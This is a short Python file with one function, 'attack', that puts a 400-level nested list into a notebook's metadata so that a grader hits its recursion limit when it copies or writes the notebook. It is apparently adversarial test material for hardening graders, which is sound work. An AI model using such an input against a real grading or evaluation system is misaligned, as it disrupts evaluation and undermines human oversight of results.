"""Nests metadata some hundred levels deep.

Would end the grader by its recursion limit, where it copies or writes the notebook.
"""

import json


def attack(notebook):
    text = json.dumps(notebook)
    return text.replace('"metadata": {', '"metadata": {"x": ' + "[" * 400 + "]" * 400 + ", ", 1)
